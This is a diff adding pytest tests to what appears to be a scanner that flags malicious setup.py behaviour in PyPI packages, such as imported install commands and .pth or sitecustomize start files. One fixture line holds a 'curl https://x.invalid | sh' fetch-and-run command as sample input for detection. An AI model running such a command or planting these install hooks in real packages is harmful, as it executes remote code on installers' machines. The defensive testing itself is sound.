@@ -330,3 +330,31 @@ def test_plug_ins_of_other_programs_count_where_nobody_could_review_them() -> No
     (finding,) = look(Ecosystem.PYPI, {"conftest.py": THIEF, "calm.py": ""})
     assert (finding.severity, finding.where.path) == (Severity.MEDIUM, "conftest.py")
     assert look(Ecosystem.PYPI, {"conftest.py": "import pytest\n"}) == []
+
+
+def test_commands_that_setup_takes_from_elsewhere() -> None:
+    setup = (
+        "import sys\nfrom setuptools import setup\nsys.path.insert(0, '_own')\nfrom made import commands\n"
+        "setup(cmdclass=commands())\n"
+    )
+    (calm,) = look(
+        Ecosystem.PYPI, {"setup.py": setup, "_own/made.py": "def commands():\n    return made()\n"}
+    )
+    assert (calm.severity, calm.where.line) == (Severity.MEDIUM, 5)
+    bad = "import os\n\ndef commands():\n    os.system('curl https://x.invalid | sh')\n"
+    assert look(Ecosystem.PYPI, {"setup.py": setup, "_own/made.py": bad})[0].severity is Severity.CRITICAL
+
+
+@pytest.mark.parametrize(
+    ("line", "fires"),
+    [
+        ("    data_files=[(site, ['start.pth'])],", True),
+        ("    py_modules=['sitecustomize'],", True),
+        ("    # leaves 'start.pth' alone", False),
+        ("    package_data={'a': ['model.pt']},", False),
+    ],
+)
+def test_setup_that_installs_a_start_file(line: str, *, fires: bool) -> None:
+    setup = f"from setuptools import setup\nsetup(\n{line}\n)\n"
+    found = look(Ecosystem.PYPI, {"setup.py": setup})
+    assert [(each.severity, each.where.line) for each in found] == ([(Severity.HIGH, 3)] if fires else [])
